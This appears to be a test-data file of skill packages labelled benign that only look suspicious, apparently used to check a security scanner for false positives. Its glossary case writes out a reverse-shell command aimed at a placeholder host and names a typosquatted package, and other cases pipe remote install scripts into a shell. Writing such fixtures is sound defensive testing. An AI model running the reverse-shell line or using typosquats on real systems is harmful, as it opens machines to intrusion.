"""Benign skills that look suspicious, test part: run once at the end."""

from scan_data.common import case

CASES = [
    case("brew-setup", "benign", "Install Homebrew.",
         "Install:\n\n```bash\n/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"\n```\n"),
    case("hf-download", "benign", "Download models.", "Run `python scripts/dl.py MODEL`.",
         scripts__dl_py="import os, requests\nh = {'Authorization': 'Bearer ' + os.environ['HF_TOKEN']}\n"
         "r = requests.get('https://huggingface.co/api/models/x', headers=h)\nprint(r.status_code)\n"),
    case("attack-glossary", "benign", "Explain attack techniques.",
         "A reverse shell such as `bash -i >& /dev/tcp/HOST/PORT` connects back to an attacker. Scanners flag it.\n"
         "Typosquats such as `reqeusts` imitate popular packages.\n"),
    case("template-render", "benign", "Render templates.", "Run `python scripts/render.py`.",
         scripts__render_py="from jinja2 import Template\nimport json, sys\nprint(Template(open(sys.argv[1]).read()).render(**json.load(open(sys.argv[2]))))\n"),
    case("log-rotate", "benign", "Rotate logs.", "Run `bash scripts/rotate.sh`.",
         scripts__rotate_sh="#!/bin/bash\nfind ./logs -name '*.log' -mtime +7 -delete\ngzip -f ./logs/*.log || true\n"),
    case("arabic-notes", "benign", "Take notes in Arabic script.",
         "نمونه: نمی\u200cدانم. Family: 👨\u200d👩\u200d👧. Isolate: \u2067שלום\u2069 done.\n"),
    case("quiz", "benign", "Run quizzes.",
         "Ask one question at a time. Don't reveal the correct answer before the user answers.\n"),
    case("changelog", "benign", "Write changelogs.",
         "<!-- markdownlint-disable MD024 -->\n\n## Unreleased\n\nWrite entries under headings.\n"),
    case("anthropic-call", "benign", "Call Claude.", "Run `node scripts/call.js`.",
         scripts__call_js="const key = process.env.ANTHROPIC_API_KEY;\n"
         "const r = await fetch('https://api.anthropic.com/v1/messages', {method: 'POST', headers: {'x-api-key': key}});\n"
         "console.log(await r.json());\n"),
    case("vite-app", "benign", "A Vite app.", "Run `npm install && npm run dev`.",
         package_json='{"name": "vite-app", "scripts": {"dev": "vite", "prepare": "husky"}, "dependencies": {"react": "^18.2.0"}}'),
    case("uv-setup", "benign", "Set up uv.",
         "```bash\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n```\n"),
    case("report-mailer", "benign", "Email reports.", "Run `python scripts/mail.py`.",
         scripts__mail_py="import smtplib, os\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
         "m['To'] = os.environ['REPORT_TO']\nm.set_content(open('report.txt').read())\n"
         "with smtplib.SMTP('localhost') as s:\n    s.send_message(m)\n"),
    case("cron-docs", "benign", "Explain cron.",
         "List your cron jobs with `crontab -l`. Edit them with `crontab -e`.\n"),
    case("pdf-assets", "benign", "PDF templates.", "Use assets/form.pdf.",
         assets__form_pdf=b"%PDF-1.7\n" + b"\x00" * 40),
    case("plugin-loader", "benign", "Load local plugins.", "Run `python scripts/load.py`.",
         scripts__load_py="import importlib, pathlib\nfor p in pathlib.Path('plugins').glob('*.py'):\n    importlib.import_module('plugins.' + p.stem)\n"),
    case("readme-badges", "benign", "Project README.",
         "![build status](https://img.shields.io/badge/build-passing-green \"Build status of the main branch\")\n"),
    case("kube-deploy", "benign", "Deploy to Kubernetes.", "Run `bash scripts/deploy.sh`.",
         scripts__deploy_sh="#!/bin/bash\nkubectl apply -f k8s/ --kubeconfig \"$HOME/.kube/config\"\nkubectl rollout status deploy/app\n"),
    case("data-uri", "benign", "Inline images.",
         "Embed: ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)\n"),
]
